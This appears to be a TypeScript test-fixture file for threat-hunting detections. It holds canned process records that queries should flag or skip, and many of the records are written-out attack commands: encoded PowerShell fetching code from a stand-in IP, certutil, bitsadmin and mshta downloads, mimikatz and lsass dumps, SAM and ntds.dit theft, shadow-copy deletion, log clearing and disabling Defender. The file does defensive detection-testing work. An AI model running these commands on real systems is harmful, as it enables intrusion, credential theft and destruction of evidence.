import {
  hashOf,
  linuxCommands,
  linuxProcess,
  macProcess,
  removed,
  secondsAgo,
  timeAgo,
  times,
  windowsCommands,
  windowsProcess,
} from '../agent-lines.ts'
import type { CannedCase } from '../canned-case.ts'

const pc = { host: 'PC-1', ago: 3600 }
const other = { host: 'PC-2', ago: 1800 }
const linux = { host: 'web-1', ago: 1200 }
const mac = { host: 'MAC-1', ago: 900 }

/** As PowerShell takes it: UTF-16 in Base64. */
function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64')
}

const download = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')"

/** The start of ten minutes that are over. */
const bucket = Math.floor(secondsAgo(7200) / 600) * 600

/** Programs started ten seconds after one another. */
function burst(host: string, names: readonly string[]): readonly string[] {
  return names.map((name, nth) => windowsProcess({ host, ago: 1 }, { name, time: bucket + nth * 10 }))
}

const misuses = [
  'certutil -verifyctl -f http://203.0.113.66/a a',
  'certutil -decode a.txt a.exe',
  'certutil /decodehex a.txt a.exe',
  'bitsadmin /addfile j http://203.0.113.66/a C:\\a',
  'bitsadmin /setnotifycmdline j C:\\a NULL',
  'mshta javascript:close(new ActiveXObject("WScript.Shell"))',
  'mshta vbscript:Execute("x")',
  'regsvr32 /s /i:payload C:\\a.dll',
  'rundll32 C:\\Windows\\System32\\comsvcs.dll, #24 640 a full',
  'wmic os get /format:"https://203.0.113.66/a.xsl"',
  'msiexec /q /package http://203.0.113.66/a.msi',
]

const thefts = [
  'mimi sekurlsa::logonpasswords',
  'mimi lsadump::sam',
  'x C:\\mimikatz\\x64\\run',
  'vssadmin create shadow /for=C:',
  'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\a',
  'lazagne.exe all',
]

const windowsTracks = [
  'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB',
  'powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}',
  'wbadmin delete catalog -quiet',
  'powershell Clear-EventLog -LogName System',
  'fsutil usn deletejournal /D C:',
  'sc stop WinDefend',
]

const linuxTracks = ['unset HISTFILE', 'journalctl --vacuum-time=1s', 'setenforce 0']

export const huntingCases: readonly CannedCase[] = [
  {
    code: 'process-by-name',
    given: { process_name: 'CMD.exe' },
    reads: 'cmdline name sha256 time',
    hits: [
      windowsProcess(pc, { name: 'cmd.exe', cmdline: 'cmd.exe /c dir' }),
      windowsProcess(other, { name: 'Cmd.EXE', cmdline: 'cmd.exe /c dir', sha256: hashOf('cmd.exe') }),
      windowsProcess(other, { name: 'cmd.exe', cmdline: 'cmd.exe /c whoami' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'notcmd.exe' }),
      removed('running_processes_windows_sophos', pc, { name: 'cmd.exe', cmdline: 'gone', time: 1 }),
    ],
    rows: [
      {
        first_seen: timeAgo(3600),
        process_name: 'cmd.exe',
        cmd_line: 'cmd.exe /c dir',
        ep_list: 'PC-1, PC-2',
        sha256: hashOf('cmd.exe'),
        executions: 2,
      },
      { process_name: 'cmd.exe', cmd_line: 'cmd.exe /c whoami', ep_list: 'PC-2', executions: 1 },
    ],
  },
  {
    code: 'encoded-powershell',
    given: { device: 'pc-%' },
    reads: 'cmdline name parent_name time username',
    hits: [
      windowsProcess(pc, { name: 'powershell.exe', cmdline: `powershell -nop -w hidden -enc ${encoded(download)}` }),
      windowsProcess(other, { name: 'pwsh.exe', cmdline: `pwsh /EncodedCommand "${encoded('whoami /all')}"` }),
      windowsProcess(other, { name: 'powershell.exe', cmdline: 'powershell -e AAAABBBBCCCCDDDDE' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'powershell.exe', cmdline: 'powershell -ExecutionPolicy Bypass -File C:\\a.ps1' }),
      windowsProcess(pc, { name: 'powershell.exe', cmdline: 'powershell -ep AAAABBBBCCCCDDDD' }),
      windowsProcess(pc, { name: 'other.exe', cmdline: `other -enc ${encoded(download)}` }),
      windowsProcess(
        { host: 'SRV-1', ago: 5 },
        { name: 'powershell.exe', cmdline: `powershell -enc ${encoded('whoami')}` },
      ),
    ],
    rows: [
      { started_at: timeAgo(3600), hostname: 'PC-1', parent_name: 'explorer.exe', decoded: download },
      { hostname: 'PC-2', decoded: 'whoami /all' },
      { hostname: 'PC-2', decoded: null },
    ],
  },
  {
    code: 'living-off-the-land',
    reads: 'cmdline name parent_name sha256 time username',
    hits: [
      ...windowsCommands(pc, misuses),
      windowsProcess(pc, { name: 'certutil.exe', cmdline: 'certutil -urlcache -f http://203.0.113.66/a.exe a.exe' }),
      windowsProcess(pc, { name: 'bitsadmin.exe', cmdline: 'bitsadmin /transfer j http://203.0.113.66/a C:\\a' }),
      windowsProcess(pc, { name: 'mshta.exe', cmdline: 'mshta http://203.0.113.66/a.hta' }),
      windowsProcess(pc, { name: 'regsvr32.exe', cmdline: 'regsvr32 /s /u /i:http://203.0.113.66/a.sct scrobj.dll' }),
      windowsProcess(pc, { name: 'RUNDLL32.EXE', cmdline: 'rundll32 C:\\Users\\Public\\a.dll,Start' }),
      windowsProcess(pc, { name: 'wmic.exe', cmdline: 'wmic /node:PC-2 process call create "cmd /c a"' }),
      windowsProcess(pc, { name: 'msiexec.exe', cmdline: 'msiexec /q /i "https://203.0.113.66/a.msi"' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'certutil.exe', cmdline: 'certutil -store my' }),
      windowsProcess(pc, { name: 'regsvr32.exe', cmdline: 'regsvr32 /s C:\\Windows\\System32\\a.dll' }),
      windowsProcess(pc, { name: 'rundll32.exe', cmdline: 'rundll32 shell32.dll,Control_RunDLL' }),
      windowsProcess(pc, { name: 'wmic.exe', cmdline: 'wmic os get caption' }),
      windowsProcess(pc, { name: 'msiexec.exe', cmdline: 'msiexec /i C:\\Install\\a.msi' }),
      windowsProcess(pc, { name: 'notepad.exe', cmdline: 'notepad certutil -urlcache' }),
    ],
    rows: [
      ...misuses.map(cmdline => ({ cmdline })),
      { name: 'certutil.exe', finding: 'certutil fetches or decodes a file', hostname: 'PC-1' },
      { name: 'bitsadmin.exe', finding: 'bitsadmin fetches a file' },
      { name: 'mshta.exe', finding: 'mshta runs a script' },
      { name: 'regsvr32.exe', finding: 'regsvr32 runs a script component' },
      { name: 'rundll32.exe', finding: 'rundll32 runs code from an unusual place' },
      { name: 'wmic.exe', finding: 'wmic starts a process' },
      { name: 'msiexec.exe', finding: 'msiexec installs from the web' },
    ],
  },
  {
    code: 'rare-programs',
    given: { device: 'PC-1' },
    reads: 'cmdline name path sha256 time',
    hits: [
      windowsProcess(pc, { name: 'odd.exe', cmdline: 'odd.exe -1' }),
      windowsProcess({ ...pc, ago: 60 }, { name: 'ODD.exe', cmdline: 'odd.exe -2', sha256: hashOf('odd.exe') }),
    ],
    misses: [
      windowsProcess(pc, { name: 'common.exe' }),
      windowsProcess(other, { name: 'common.exe' }),
      windowsProcess(other, { name: 'elsewhere.exe' }),
      windowsProcess(pc, { name: 'unhashed.exe', sha256: '' }),
    ],
    rows: [
      {
        sha256: hashOf('odd.exe'),
        names: 'odd.exe',
        hosts: 1,
        executions: 2,
        first_seen: timeAgo(3600),
        hostnames: 'PC-1',
        last_cmdline: 'odd.exe -2',
      },
    ],
  },
  {
    code: 'rare-parents',
    reads: 'cmdline name parent_cmdline parent_name time username',
    hits: [
      windowsProcess(pc, {
        name: 'cmd.exe',
        parent_name: 'W3WP.exe',
        parent_cmdline: 'w3wp -ap app',
        cmdline: 'cmd /c a',
      }),
    ],
    misses: [
      windowsProcess(pc, { name: 'a.exe', parent_name: 'common.exe' }),
      windowsProcess(other, { name: 'a.exe', parent_name: 'common.exe' }),
      ...times(4, nth => windowsProcess({ ...pc, ago: nth + 1 }, { name: 'often.exe' })),
      windowsProcess(pc, { name: 'orphan.exe', parent_name: '' }),
    ],
    rows: [
      {
        parent_name: 'w3wp.exe',
        process_name: 'cmd.exe',
        starts: 1,
        hosts: 1,
        last_started: timeAgo(3600),
        hostname: 'PC-1',
        username: 'PC\\amara',
        parent_cmdline: 'w3wp -ap app',
        cmdline: 'cmd /c a',
      },
    ],
  },
  {
    code: 'documents-starting-shells',
    reads: 'cmdline name parent_cmdline parent_name sha256 time username',
    hits: [
      windowsProcess(pc, {
        name: 'PowerShell.exe',
        parent_name: 'WINWORD.EXE',
        parent_cmdline: 'winword invoice.docm',
      }),
      windowsProcess(other, { name: 'mshta.exe', parent_name: 'outlook.exe' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'powershell.exe', parent_name: 'explorer.exe' }),
      windowsProcess(pc, { name: 'splwow64.exe', parent_name: 'WINWORD.EXE' }),
      windowsProcess(pc, { name: 'cmd.exe', parent_name: 'mywinword.exe' }),
    ],
    rows: [
      { hostname: 'PC-1', name: 'PowerShell.exe', parent_cmdline: 'winword invoice.docm', started_at: timeAgo(3600) },
      { hostname: 'PC-2', name: 'mshta.exe', parent_name: 'outlook.exe' },
    ],
  },
  {
    code: 'programs-in-writable-folders',
    reads: 'cmdline name path sha256 time',
    hits: [
      ...['C:\\Windows\\Temp\\k.exe', 'C:\\Users\\amara\\Downloads\\k.exe', 'C:\\PerfLogs\\k.exe'].map(path =>
        windowsProcess(pc, { name: 'k.exe', path }),
      ),
      windowsProcess(pc, { name: 'a.exe', path: 'C:\\Users\\Public\\a.exe' }),
      windowsProcess(pc, { name: 'b.exe', path: 'C:\\Users\\amara\\AppData\\Local\\Temp\\7z\\b.exe' }),
      windowsProcess(pc, { name: 'e.exe', path: 'C:\\$Recycle.Bin\\S-1-5\\e.exe' }),
      linuxProcess(linux, { name: 'c', path: '/dev/shm/c' }),
      linuxProcess(linux, { name: 'f', path: '/home/bjorn/.cache/f' }),
      macProcess(mac, { name: 'd', path: '/private/tmp/d' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'g.exe', path: 'C:\\Program Files\\Temp\\g.exe' }),
      linuxProcess(linux, { name: 'h', path: '/usr/tmp/h' }),
      linuxProcess(linux, { name: 'i', path: '/home/bjorn/bin/i' }),
      macProcess(mac, { name: 'j', path: '/Applications/J.app/Contents/MacOS/j' }),
    ],
    rows: [
      { path: 'C:\\Windows\\Temp\\k.exe' },
      { path: 'C:\\Users\\amara\\Downloads\\k.exe' },
      { path: 'C:\\PerfLogs\\k.exe' },
      { process_name: 'a.exe', hostnames: 'PC-1', executions: 1, first_seen: timeAgo(3600) },
      { process_name: 'b.exe' },
      { process_name: 'e.exe' },
      { process_name: 'c', path: '/dev/shm/c', hostnames: 'web-1', sha256: hashOf('c') },
      { process_name: 'f' },
      { process_name: 'd', hostnames: 'MAC-1' },
    ],
  },
  {
    code: 'disguised-system-programs',
    reads: 'cmdline name parent_name path sha256 time username',
    hits: [
      windowsProcess(pc, { name: 'svchost.exe', path: 'C:\\ProgramData\\svchost.exe' }),
      windowsProcess(pc, { name: 'LSASS.EXE', path: 'C:\\Windows\\Temp\\System32\\lsass.exe' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'csrss.exe', path: '\\Device\\HarddiskVolume3\\Windows\\System32\\csrss.exe' }),
      windowsProcess(pc, { name: 'svchost.exe', path: 'C:\\Windows\\WinSxS\\amd64_x\\svchost.exe' }),
      windowsProcess(pc, { name: 'lsass.exe', path: '\\\\?\\C:\\Windows\\System32\\lsass.exe' }),
      windowsProcess(pc, { name: 'svchost.exe', path: 'c:\\windows\\system32\\svchost.exe' }),
      windowsProcess(pc, { name: 'dllhost.exe', path: 'C:\\Windows\\SysWOW64\\dllhost.exe' }),
      windowsProcess(pc, { name: 'smss.exe', path: '\\SystemRoot\\System32\\smss.exe' }),
      windowsProcess(pc, { name: 'csrss.exe', path: '' }),
      windowsProcess(pc, { name: 'svchost2.exe', path: 'C:\\ProgramData\\svchost2.exe' }),
    ],
    rows: [
      { hostname: 'PC-1', name: 'svchost.exe', path: 'C:\\ProgramData\\svchost.exe', started_at: timeAgo(3600) },
      { hostname: 'PC-1', name: 'LSASS.EXE', parent_name: 'explorer.exe' },
    ],
  },
  {
    code: 'first-seen-programs',
    given: { hours: '2' },
    reads: 'cmdline name path sha256',
    hits: [
      windowsProcess(pc, { name: 'new.exe', cmdline: 'new.exe --first' }),
      windowsProcess(other, { name: 'new.exe', cmdline: 'new.exe --second' }),
      // Started long ago, reported now: the fleet has not seen it before.
      windowsProcess(pc, { name: 'resident.exe', time: secondsAgo(5 * 86_400) }),
    ],
    misses: [
      windowsProcess({ ...other, ago: 3 * 86_400 }, { name: 'old.exe' }),
      windowsProcess(pc, { name: 'old.exe' }),
      windowsProcess(pc, { name: 'unhashed.exe', sha256: '' }),
    ],
    rows: [
      {
        sha256: hashOf('new.exe'),
        names: 'new.exe',
        hosts: 2,
        first_reported: timeAgo(3600),
        first_hostname: 'PC-1',
        first_cmdline: 'new.exe --first',
      },
      { sha256: hashOf('resident.exe'), hosts: 1 },
    ],
  },
  {
    code: 'credential-theft',
    reads: 'cmdline name sha256 time',
    hits: [
      ...windowsCommands(pc, thefts),
      windowsProcess(pc, { name: 'procdump64.exe', cmdline: 'procdump64.exe -ma lsass.exe out.dmp' }),
      windowsProcess(pc, {
        name: 'rundll32.exe',
        cmdline: 'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 a',
      }),
      windowsProcess(pc, { name: 'reg.exe', cmdline: 'reg.exe save HKLM\\SAM C:\\a.hiv' }),
      windowsProcess(pc, { name: 'ntdsutil.exe', cmdline: 'ntdsutil "ac i ntds" "ifm" "create full c:\\a" q q' }),
      linuxProcess(linux, { name: 'cat', cmdline: 'cat -A /etc/shadow' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'procdump64.exe', cmdline: 'procdump64.exe -ma w3wp.exe out.dmp' }),
      windowsProcess(pc, { name: 'reg.exe', cmdline: 'reg save HKLM\\Software\\Sample a.hiv' }),
      linuxProcess(linux, { name: 'cat', cmdline: 'cat /etc/passwd' }),
    ],
    rows: [
      ...thefts.map(cmdline => ({ cmdline })),
      { hostname: 'PC-1', name: 'procdump64.exe', started_at: timeAgo(3600), sha256: hashOf('procdump64.exe') },
      { name: 'rundll32.exe' },
      { name: 'reg.exe' },
      { name: 'ntdsutil.exe' },
      { hostname: 'web-1', name: 'cat' },
    ],
  },
  {
    code: 'covered-tracks',
    reads: 'cmdline name sha256 time',
    hits: [
      ...windowsCommands(pc, windowsTracks),
      ...linuxCommands(linux, linuxTracks),
      windowsProcess(pc, { name: 'vssadmin.exe', cmdline: 'vssadmin.exe Delete Shadows /all /quiet' }),
      windowsProcess(pc, { name: 'wmic.exe', cmdline: 'wmic shadowcopy delete' }),
      windowsProcess(pc, { name: 'bcdedit.exe', cmdline: 'bcdedit /set {default} recoveryenabled No' }),
      windowsProcess(pc, { name: 'wevtutil.exe', cmdline: 'wevtutil cl Security' }),
      windowsProcess(pc, {
        name: 'powershell.exe',
        cmdline: 'powershell Set-MpPreference -DisableRealtimeMonitoring 1',
      }),
      linuxProcess(linux, { name: 'bash', cmdline: 'bash -c history -c' }),
      linuxProcess(linux, { name: 'ln', cmdline: 'ln -sf /dev/null /root/.bash_history' }),
    ],
    misses: [
      windowsProcess(pc, { name: 'vssadmin.exe', cmdline: 'vssadmin list shadows' }),
      windowsProcess(pc, { name: 'wevtutil.exe', cmdline: 'wevtutil qe Security /c:5' }),
      windowsProcess(pc, { name: 'sc.exe', cmdline: 'sc query windefend' }),
      linuxProcess(linux, { name: 'journalctl', cmdline: 'journalctl -u ssh' }),
    ],
    rows: [
      ...windowsTracks.map(cmdline => ({ cmdline })),
      ...linuxTracks.map(cmdline => ({ cmdline })),
      { name: 'vssadmin.exe', hostname: 'PC-1', started_at: timeAgo(3600) },
      { name: 'wmic.exe' },
      { name: 'bcdedit.exe' },
      { name: 'wevtutil.exe' },
      { name: 'powershell.exe' },
      { name: 'bash', hostname: 'web-1' },
      { name: 'ln' },
    ],
  },
  {
    code: 'discovery-bursts',
    given: { min_commands: '3' },
    reads: 'cmdline name time',
    hits: burst('PC-1', ['whoami.exe', 'ipconfig.exe', 'net.exe', 'net.exe']),
    misses: [
      ...burst('PC-2', ['whoami.exe', 'whoami.exe', 'net.exe', 'notepad.exe']),
      ...['id', 'w', 'last'].map((name, nth) =>
        linuxProcess({ host: 'web-1', ago: 1 }, { name, time: bucket + (nth + 1) * 600 }),
      ),
    ],
    rows: [
      {
        hostname: 'PC-1',
        programs: 3,
        first_command: new Date(bucket * 1000).toISOString(),
        last_command: new Date((bucket + 30) * 1000).toISOString(),
        commands: 'whoami.exe\nipconfig.exe\nnet.exe\nnet.exe',
      },
    ],
  },
]
